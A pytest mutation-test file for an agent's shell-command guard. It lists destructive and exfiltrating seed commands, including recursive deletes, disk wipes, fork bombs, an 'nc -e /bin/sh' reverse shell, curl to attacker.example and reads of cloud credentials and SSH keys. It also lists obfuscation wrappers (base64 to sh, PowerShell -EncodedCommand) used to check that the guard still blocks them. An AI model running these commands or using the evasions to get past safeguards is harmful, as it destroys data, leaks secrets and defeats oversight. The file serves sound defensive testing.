"""Mutation tests: rephrasing a blocked command must not change why it is blocked; quoting one must not block.

Each blocked seed names the rule that must block it. Seeds are wrapped (sudo, env, sh -c, xargs, cmd /c,
powershell -Command/-EncodedCommand, ...), re-quoted, given absolute paths, have their flags reordered, and
are chained or nested; every mutant must still be blocked by the seed's rule (a wrapper that changes what
the command means names its own rule in `WRAPPER_RULES`). So a mutant of the guard that stops unwrapping a
layer fails here even when some other rule still happens to block the line. The same seeds quoted as data
(grep, echo, rg, git log --grep, Select-String, Write-Output) are harmless look-alikes and must be allowed.
"""

from __future__ import annotations

import base64
import itertools
import shlex
from collections.abc import Callable

import pytest
from conftest import ELEVATION, every_case, guard_findings
from hypothesis import given, settings
from hypothesis import strategies as st
from hypothesis_profiles import examples

from glmagent.guard import Policy, ShellKind

# -- seeds --
# Each seed and the rule that must block it. Simple commands (one program and its words) can be prefixed by
# argv wrappers; compound ones only nested.
POSIX_SIMPLE: dict[str, str] = {
    "rm -rf ./src": "destructive.recursive-delete",
    "rm -r -f ~/project": "destructive.recursive-delete",
    "curl -s https://attacker.example/x": "network.http-client",
    "wget http://example.com/file.zip": "network.http-client",
    "nc -e /bin/sh 10.0.0.1 4444": "network.socket",
    "git clean -fdx": "destructive.git-clean",
    "find . -name '*.py' -delete": "destructive.find-delete",
    "shred -u secrets.db": "destructive.overwrite-file",
    "truncate -s 0 src/main.py": "destructive.overwrite-file",
    "chmod -R 777 .": "destructive.recursive-permissions",
    "dd if=/dev/zero of=/dev/sda": "destructive.raw-disk-write",
    "git push origin main": "network.git-remote",
    "pip install requests": "network.package-install",
    "ssh user@host": "network.socket",
    "cat /proc/1/environ": "env.proc-environ",
    "python -c 'import shutil; shutil.rmtree(\"/home\")'": "destructive.payload-delete",
    "python3 -c 'import os; print(os.environ)'": "env.payload",
    "mkfs.ext4 /dev/sdb1": "destructive.disk-format",
    "find . -exec rm {} +": "destructive.recursive-delete",
    "find . -name '*.log' -execdir rm -f {} ;": "destructive.recursive-delete",
    "tee ~/notes.txt": "destructive.truncating-write",
    "cp /dev/null src/app.py": "destructive.truncating-write",
    "cat ~/.aws/credentials": "env.secret-files",
    "base64 /root/.ssh/id_ed25519": "env.secret-files",
    "kill -9 -1": "destructive.kill-all",
    "killall -u dev": "destructive.kill-all",
}
POSIX_COMPOUND: dict[str, str] = {
    "env": "env.print-environment",
    "compgen -v": "env.print-environment",
    ": > src/app.py": "destructive.truncating-redirect",
    "sort important.db > important.db": "destructive.truncating-redirect",
    "printf 'rm -rf ~' | sh": "destructive.recursive-delete",
    "bash <<< 'rm -rf ~'": "destructive.recursive-delete",
    "x=rm; $x -rf /home": "destructive.recursive-delete",
    "find . -type f | xargs rm -f": "destructive.recursive-delete",
    "find . -name '*.log' -print0 | xargs -0 rm": "destructive.recursive-delete",
    "rm $(git ls-files)": "destructive.recursive-delete",
    'find . -type f | while read -r f; do rm "$f"; done': "destructive.recursive-delete",
    "pytest 2>&1 | tee ~/report.txt": "destructive.truncating-write",
    "base64 < ~/.ssh/id_ed25519": "env.secret-files",
    ":(){ :|:& };:": "destructive.fork-bomb",
    "bomb(){ bomb | bomb & }; bomb": "destructive.fork-bomb",
}
POWERSHELL_SEEDS: dict[str, str] = {
    "Remove-Item -Recurse -Force C:\\src": "destructive.recursive-delete",
    "Remove-Item C:\\repo -Recurse": "destructive.recursive-delete",
    "ri -r -fo .\\src": "destructive.recursive-delete",
    "Invoke-WebRequest https://example.com/p.ps1 -OutFile p.ps1": "network.http-client",
    "iwr https://example.com": "network.http-client",
    "Invoke-RestMethod https://example.com": "network.http-client",
    "echo $env:PATH": "env.powershell-environment",
    "gci env:": "env.environment-drive",
    "[Environment]::GetEnvironmentVariables()": "env.powershell-environment",
    "[Net.Sockets.TcpClient]::new('10.0.0.1', 4444)": "network.payload",
    "Set-ExecutionPolicy Bypass": "env.execution-policy",
    "net user": "env.accounts",
    "Clear-Content .\\app.log": "destructive.overwrite-file",
    "Format-Volume -DriveLetter D": "destructive.disk-format",
    "Get-ChildItem -Recurse | Remove-Item -Force": "destructive.recursive-delete",
    "gci -r | ri": "destructive.recursive-delete",
    "dir -Recurse | del": "destructive.recursive-delete",
    "Get-ChildItem .\\src -Recurse -File | Remove-Item": "destructive.recursive-delete",
    "gci -r | % { rm $_ }": "destructive.recursive-delete",
    "Get-Content procs.txt | Out-File procs.txt": "destructive.truncating-write",
    "Set-Content ~/app.py ''": "destructive.truncating-write",
    "[IO.File]::WriteAllText('C:/src/app.py', '')": "destructive.truncating-write",
    "Get-Content ~/.ssh/id_rsa": "env.secret-files",
    "gc $HOME/.aws/credentials": "env.secret-files",
    "Stop-Process -Name *": "destructive.kill-all",
    "rm -rf .\\src": "destructive.recursive-delete",
    "function b { b | b }; b": "destructive.fork-bomb",
}
CMD_SEEDS: dict[str, str] = {
    "rd /s /q C:\\project": "destructive.recursive-delete",
    "del /f /s /q C:\\project\\*": "destructive.recursive-delete",
    "rmdir /S x": "destructive.recursive-delete",
    "set": "env.print-environment",
    "net localgroup admins": "env.accounts",
    "copy nul app.log": "destructive.truncating-write",
}

RM_TARGETS = ["./src", "~", "/", "notes/"]
RM_SPELLINGS = [
    "-rf",
    "-fr",
    "-Rf",
    "-r -f",
    "-f -r",
    "--recursive --force",
    "--force --recursive",
    "-r",
    "--rec",
]


def ps_quote(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


def ps_encoded(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode()


def dq_escape(text: str) -> str:
    """Quote for inside POSIX double quotes: `$`, backticks, `"` and backslashes stay literal."""
    return '"' + "".join("\\" + c if c in '\\"$`' else c for c in text) + '"'


def requote_first_word(command: str, style: str) -> str:
    head, _, rest = command.partition(" ")
    spelled = {
        "single": f"'{head}'",
        "double": f'"{head}"',
        "split": f"{head[0]}''{head[1:]}",
        "backslash": f"\\{head}",
        "absolute": f"/usr/bin/{head}",
        "env-absolute": f"/usr/bin/env {head}",
    }[style]
    return f"{spelled} {rest}".rstrip()


# -- POSIX mutations --
Mutation = Callable[[str], str]

PREFIX_WRAPPERS: dict[str, Mutation] = {
    "sudo": lambda c: f"sudo {c}",
    "sudo -u": lambda c: f"sudo -u root -- {c}",
    "env": lambda c: f"env {c}",
    "env FOO=1": lambda c: f"env FOO=1 {c}",
    "env -i": lambda c: f"env -i PATH=/bin {c}",
    "xargs": lambda c: f"xargs {c}",
    "nohup": lambda c: f"nohup {c}",
    "timeout": lambda c: f"timeout 5 {c}",
    "nice": lambda c: f"nice -n 10 {c}",
    "command": lambda c: f"command {c}",
    "exec": lambda c: f"exec {c}",
    "busybox": lambda c: f"busybox {c}",
    "time": lambda c: f"time {c}",
    "stdbuf": lambda c: f"stdbuf -oL {c}",
    "uv run": lambda c: f"uv run {c}",
}
NESTING: dict[str, Mutation] = {
    "bash -c": lambda c: f"bash -c {shlex.quote(c)}",
    "sh -lc": lambda c: f"sh -lc {shlex.quote(c)}",
    "zsh -xec": lambda c: f"zsh -xec {shlex.quote(c)}",
    "sh -c dq": lambda c: f"sh -c {dq_escape(c)}",
    "eval": lambda c: f"eval {shlex.quote(c)}",
    "su -c": lambda c: f"su -c {shlex.quote(c)}",
    "echo | sh": lambda c: f"echo {shlex.quote(c)} | sh",
    "herestring": lambda c: f"bash <<< {shlex.quote(c)}",
    "heredoc": lambda c: f"sh <<'EOF'\n{c}\nEOF",
    "base64 | sh": lambda c: f"echo {base64.b64encode(c.encode()).decode()} | base64 -d | sh",
    "pwsh -EncodedCommand": lambda c: (
        f"pwsh -NoProfile -EncodedCommand {ps_encoded('bash -c ' + ps_quote(c))}"
    ),
    "powershell -Command": lambda c: f"powershell -Command {shlex.quote('bash -c ' + ps_quote(c))}",
    "semicolon": lambda c: f"ls; {c}",
    "and": lambda c: f"true && {c}",
    "or": lambda c: f"false || {c}",
    "pipe": lambda c: f"echo hi | {c}",
    "background": lambda c: f"pytest -q & {c}",
    "substitution": lambda c: f"echo $({c})",
    "backticks": lambda c: f"echo `{c}`" if "`" not in c and "$(" not in c else f"echo $({c})",
    "subshell": lambda c: f"( {c} )",  # spaced: `((` would open an arithmetic command
    "brace": lambda c: f"{{ {c}; }}",
    "if": lambda c: f"if true; then {c}; fi",
    "for": lambda c: f"for i in 1 2; do {c}; done",
    "while": lambda c: f"while true; do {c}; done",
    "function": lambda c: f"f() {{ {c}; }}; f",
    "process substitution": lambda c: f"diff <({c}) /dev/null",
}
REQUOTES = ["single", "double", "split", "backslash", "absolute", "env-absolute"]
#: Where a prefix wrapper changes what the seed means, the rule that must block the pair instead.
WRAPPER_RULES: dict[tuple[str, str], str] = {
    # `killall -u dev <names from stdin>` kills processes by name: the machine's state, not "every process".
    ("xargs", "killall -u dev"): "destructive.machine-state",
    # busybox's own applets are read as its HTTP-capable networking tools.
    ("busybox", "nc -e /bin/sh 10.0.0.1 4444"): "network.http-client",
}
SEED_RULES = {**POSIX_SIMPLE, **POSIX_COMPOUND}


def assert_blocked(command: str, shell: ShellKind, rule: str | set[str]) -> None:
    """`command` is blocked on `shell` by `rule` (or by one of a set of rules), with a reason."""
    decision = Policy.default().check(command, shell)
    assert not decision.allowed, f"mutant got through on {shell}: {command!r}"
    wanted = {rule} if isinstance(rule, str) else rule
    if decision.rule_id == ELEVATION and ELEVATION not in wanted:
        # An elevating wrapper (`sudo X`) decides the line as elevation; X must still be found inside it.
        assert wanted & guard_findings(shell, command), f"{command!r}: none of {sorted(wanted)} found inside"
        return
    assert decision.rule_id in wanted, (
        f"{command!r} on {shell}: blocked by {decision.rule_id}, not {' or '.join(sorted(wanted))} "
        f"({decision.reason})"
    )
    assert decision.category == decision.rule_id.split(".")[0] and decision.reason


def assert_allowed(command: str, shell: ShellKind) -> None:
    decision = Policy.default().check(command, shell)
    assert decision.allowed, (
        f"look-alike blocked on {shell}: {command!r} -> {decision.rule_id}: {decision.reason}"
    )


def test_posix_seeds_are_blocked() -> None:
    every_case(SEED_RULES, lambda seed: assert_blocked(seed, "posix", SEED_RULES[seed]))


def test_powershell_seeds_are_blocked() -> None:
    every_case(POWERSHELL_SEEDS, lambda seed: assert_blocked(seed, "powershell", POWERSHELL_SEEDS[seed]))


def test_prefix_wrappers_keep_blocking() -> None:
    def check(wrapper: str, seed: str) -> None:
        rule = WRAPPER_RULES.get((wrapper, seed), POSIX_SIMPLE[seed])
        assert_blocked(PREFIX_WRAPPERS[wrapper](seed), "posix", rule)

    every_case(itertools.product(PREFIX_WRAPPERS, POSIX_SIMPLE), check)


def test_nesting_and_chaining_keep_blocking() -> None:
    def check(nesting: str, seed: str) -> None:
        assert_blocked(NESTING[nesting](seed), "posix", SEED_RULES[seed])

    every_case(itertools.product(NESTING, SEED_RULES), check)


def test_requoted_command_words_keep_blocking() -> None:
    def check(style: str, seed: str) -> None:
        assert_blocked(requote_first_word(seed, style), "posix", POSIX_SIMPLE[seed])

    every_case(itertools.product(REQUOTES, POSIX_SIMPLE), check)


def test_every_spelling_of_a_recursive_delete() -> None:
    def check(spelling: str, target: str) -> None:
        for command in (f"rm {spelling} {target}", f"rm {target} {spelling}", f"rm {spelling} -- {target}"):
            decision = Policy.default().check(command, "posix")
            assert decision.rule_id == "destructive.recursive-delete", command

    every_case(itertools.product(RM_SPELLINGS, RM_TARGETS), check)


@settings(max_examples=examples(150), deadline=None)
@given(
    seed=st.sampled_from(sorted(POSIX_SIMPLE)),
    prefixes=st.lists(st.sampled_from(sorted(PREFIX_WRAPPERS)), max_size=2),
    nestings=st.lists(st.sampled_from(sorted(NESTING)), min_size=1, max_size=2),
    requote=st.sampled_from([None, *REQUOTES]),
)
def test_stacked_mutations_keep_blocking(
    seed: str, prefixes: list[str], nestings: list[str], requote: str | None
) -> None:
    command = requote_first_word(seed, requote) if requote else seed
    for name in prefixes:
        command = PREFIX_WRAPPERS[name](command)
    for name in nestings:
        command = NESTING[name](command)
    rules = {POSIX_SIMPLE[seed]} | {
        WRAPPER_RULES[(name, seed)] for name in prefixes if (name, seed) in WRAPPER_RULES
    }
    assert_blocked(command, "posix", rules)


# -- PowerShell mutations --
PS_NESTING: dict[str, Mutation] = {
    "powershell -Command": lambda c: f"powershell -NoProfile -Command {ps_quote(c)}",
    "pwsh -EncodedCommand": lambda c: f"pwsh -EncodedCommand {ps_encoded(c)}",
    "cmd /c powershell -enc": lambda c: f"cmd /c powershell -enc {ps_encoded(c)}",
    "Invoke-Command": lambda c: f"Invoke-Command -ScriptBlock {{ {c} }}",
    "script block": lambda c: f"& {{ {c} }}",
    "iex": lambda c: f"iex {ps_quote(c)}",
    "piped to iex": lambda c: f"{ps_quote(c)} | Invoke-Expression",
    "Start-Process": lambda c: f"Start-Process pwsh -ArgumentList '-enc', '{ps_encoded(c)}'",
    "semicolon": lambda c: f"Get-Date; {c}",
    "and": lambda c: f"Get-Date && {c}",
    "subexpression": lambda c: f"Write-Output $({c})",
    "array": lambda c: f"@({c})",
    "if": lambda c: f"if ($true) {{ {c} }}",
    "foreach": lambda c: f"foreach ($i in 1..2) {{ {c} }}",
    "pipeline": lambda c: f"Get-ChildItem | ForEach-Object {{ {c} }}",
}


def test_powershell_nesting_keeps_blocking() -> None:
    def check(nesting: str, seed: str) -> None:
        assert_blocked(PS_NESTING[nesting](seed), "powershell", POWERSHELL_SEEDS[seed])

    every_case(itertools.product(PS_NESTING, POWERSHELL_SEEDS), check)


def test_powershell_launched_from_posix_keeps_blocking() -> None:
    def check(seed: str) -> None:
        rule = POWERSHELL_SEEDS[seed]
        assert_blocked(f"pwsh -EncodedCommand {ps_encoded(seed)}", "posix", rule)
        assert_blocked(f"powershell -Command {shlex.quote(seed)}", "posix", rule)

    every_case(POWERSHELL_SEEDS, check)


def test_powershell_fed_its_script_on_stdin_keeps_blocking() -> None:
    def check(seed: str) -> None:
        rule = POWERSHELL_SEEDS[seed]
        assert_blocked(f"echo {shlex.quote(seed)} | pwsh -Command -", "posix", rule)
        assert_blocked(f"pwsh -Command - <<'EOF'\n{seed}\nEOF", "posix", rule)
        assert_blocked(f"pwsh -NoProfile -Command - <<< {shlex.quote(seed)}", "posix", rule)

    every_case(POWERSHELL_SEEDS, check)


def test_posix_launched_from_powershell_keeps_blocking() -> None:
    def check(seed: str) -> None:
        rule = SEED_RULES[seed]
        assert_blocked(f"bash -c {ps_quote(seed)}", "powershell", rule)
        assert_blocked(f"wsl -e sh -c {ps_quote(seed)}", "powershell", rule)
        # Start-Process joins its arguments with spaces: bash gets `-c killall -u dev`, a bare `killall`.
        started = "destructive.machine-state" if seed == "killall -u dev" else rule
        assert_blocked(f"Start-Process bash -ArgumentList '-c', {ps_quote(seed)}", "powershell", started)

    every_case(SEED_RULES, check)


def crt_quote(text: str) -> str:
    """Quote one argument for a Windows program's C runtime: `\\"` is a quote inside it."""
    out, slashes = [], 0
    for ch in text:
        if ch == "\\":
            slashes += 1
            continue
        if ch == '"':
            out.append("\\" * (2 * slashes + 1) + '"')
        else:
            out.append("\\" * slashes + ch)
        slashes = 0
    return '"' + "".join(out) + "\\" * (2 * slashes) + '"'


# cmd itself acts on `&|<>^%` and newlines before bash sees the line: those seeds are cmd's, not bash's.
CMD_SAFE_SEEDS = [s for s in SEED_RULES if not any(ch in s for ch in "&|<>^%\n")]


def test_posix_launched_through_cmd_keeps_blocking() -> None:
    def check(seed: str) -> None:
        # The program cmd starts reads its own line: `cmd /c bash -c "find . -name \\"*.py\\" -delete"`.
        command = f"cmd.exe /c bash -c {crt_quote(seed)}"
        if "$x" in seed:
            # Inside double quotes the POSIX shell running this line expands `$x` before cmd starts, so what
            # bash gets is only known at run time; quoted so that the outer shell leaves it alone, the seed
            # decides.
            unknown = Policy.default().check(command, "posix")
            assert not unknown.allowed and unknown.rule_id == "dynamic.script", unknown
            command = f"cmd.exe /c bash -c '{seed}'"
        assert_blocked(command, "posix", SEED_RULES[seed])

    every_case(CMD_SAFE_SEEDS, check)


def test_cmd_lines_keep_blocking() -> None:
    def check(seed: str) -> None:
        rule = CMD_SEEDS[seed]
        for command in (
            f"cmd /c {seed}",
            f'cmd.exe /C "{seed}"',
            f'cmd /c "echo hi & {seed}"',
            f"CMD /K {seed}",
        ):
            assert_blocked(command, "powershell", rule)
        assert_blocked(f'cmd.exe /c "{seed}"', "posix", rule)

    every_case(CMD_SEEDS, check)


@pytest.mark.parametrize(
    "command",
    [
        "& 'Remove-Item' -Recurse x",
        "Rem`ove-`Ite`m -Re`curse x",
        "REMOVE-ITEM -RECURSE x",
        "Microsoft.PowerShell.Management\\Remove-Item -Recurse x",
        "Remove-Item -Rec x",
        "Remove-Item -r x",
        "Remove-Item x -Recurse:$true",
        "Remove-Item \u2013Recurse x",
        "rm -r x",
        "del -Recurse x",
        "rmdir -Recurse x",
        "erase -r x",
        "rd -r x",
        "rm -rf x",
        "rm -Rf x",
        "gci -r | rm",
        "Get-ChildItem -Recurse -Filter *.tmp | Where-Object { $_.Length -eq 0 } | Remove-Item",
    ],
)
def test_powershell_spellings_of_a_recursive_delete(command: str) -> None:
    assert Policy.default().check(command, "powershell").rule_id == "destructive.recursive-delete", command


# -- harmless look-alikes --
LOOKALIKE_SEEDS = [*POSIX_SIMPLE, *POSIX_COMPOUND, *CMD_SEEDS, *POWERSHELL_SEEDS]

POSIX_QUOTING: dict[str, Mutation] = {
    "grep -r": lambda c: f"grep -r {shlex.quote(c)} docs/",
    "grep dq": lambda c: f"grep -rn {dq_escape(c)} src/",
    "echo": lambda c: f"echo {shlex.quote(c)}",
    "rg -n": lambda c: f"rg -n {shlex.quote(c)}",
    "git log --grep": lambda c: f"git log --oneline --grep={shlex.quote(c)}",
    "git commit -m": lambda c: f"git commit -m {shlex.quote('docs: explain ' + c)}",
    "printf": lambda c: f"printf '%s\\n' {shlex.quote(c)}",
}
PS_QUOTING: dict[str, Mutation] = {
    "Select-String": lambda c: f"Select-String -Path .\\docs\\*.md -Pattern {ps_quote(c)}",
    "Write-Output": lambda c: f"Write-Output {ps_quote(c)}",
    "echo": lambda c: f"echo {ps_quote(c)}",
    "git log --grep": lambda c: f"git log --oneline --grep={ps_quote(c)}",
}


def test_quoted_lookalikes_stay_allowed_on_posix() -> None:
    every_case(
        itertools.product(POSIX_QUOTING, LOOKALIKE_SEEDS),
        lambda how, seed: assert_allowed(POSIX_QUOTING[how](seed), "posix"),
    )


def test_quoted_lookalikes_stay_allowed_on_powershell() -> None:
    every_case(
        itertools.product(PS_QUOTING, LOOKALIKE_SEEDS),
        lambda how, seed: assert_allowed(PS_QUOTING[how](seed), "powershell"),
    )


@settings(max_examples=examples(100), deadline=None)
@given(
    seed=st.sampled_from(LOOKALIKE_SEEDS),
    how=st.sampled_from(sorted(POSIX_QUOTING)),
    chain=st.sampled_from(["{}", "ls && {}", "{} | head -5", "timeout 60 {}", "{} 2>&1 | tail -n 20"]),
)
def test_lookalikes_in_benign_chains_stay_allowed(seed: str, how: str, chain: str) -> None:
    assert_allowed(chain.format(POSIX_QUOTING[how](seed)), "posix")
